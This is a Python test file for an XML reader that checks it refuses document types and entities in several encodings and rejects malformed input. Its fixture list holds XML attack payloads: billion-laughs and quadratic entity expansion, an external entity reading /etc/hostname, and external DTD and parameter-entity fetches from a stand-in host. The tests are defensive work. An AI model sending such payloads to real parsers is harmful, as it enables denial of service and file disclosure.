"""The door for XML: what could blow up or reach outside is refused by name, whatever its encoding."""

import pytest

from lcmonitor.errors import ExportError
from lcmonitor.exports.xml import tree

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
HOSTILE = {
    "billion laughs": f'<!DOCTYPE r [<!ENTITY l0 "ha">{LAUGHS}]><r>&l11;</r>',
    "quadratic": f'<!DOCTYPE r [<!ENTITY big "{"x" * 100_000}">]><r>{"&big;" * 10_000}</r>',
    "external entity": '<!DOCTYPE r [<!ENTITY file SYSTEM "file:///etc/hostname">]><r>&file;</r>',
    "external DTD": '<!DOCTYPE r SYSTEM "http://192.0.2.1/evil.dtd"><r/>',
    "parameter entity": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]><r/>',
    "bare document type": "<!DOCTYPE r><r/>",
}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_document_types_and_entities_are_refused(text: str, encoding: str) -> None:
    with pytest.raises(ExportError, match="LCM-160"):
        tree("bad.xml", text.encode(encoding))


@pytest.mark.parametrize(
    "data",
    [
        b"<r><a></r>",
        b"<r>",
        b"",
        b"<r>&nbsp;</r>",
        b"<r/><r/>",
        b"<r>\xff</r>",
        b'<?xml version="1.0" encoding="shift_jis"?><r/>',
        b'<?xml version="1.0" encoding="nobody-knows"?><r/>',
    ],
)
def test_what_is_no_xml_is_refused(data: bytes) -> None:
    with pytest.raises(ExportError, match="LCM-161"):
        tree("bad.xml", data)


def test_elements_are_named_without_namespaces_and_text_is_whole() -> None:
    root = tree("x", b'<a xmlns="ddi:codebook:2_5"><b k="v">x &amp; <![CDATA[<i>y</i>]]>\nz</b></a>')
    assert (root.tag, root[0].tag, root[0].get("k")) == ("a", "b", "v")
    assert root[0].text == "x & <i>y</i>\nz"


def test_elements_in_elements_without_end_are_no_danger() -> None:
    assert tree("x", b"<a>" * 100_000 + b"</a>" * 100_000).tag == "a"
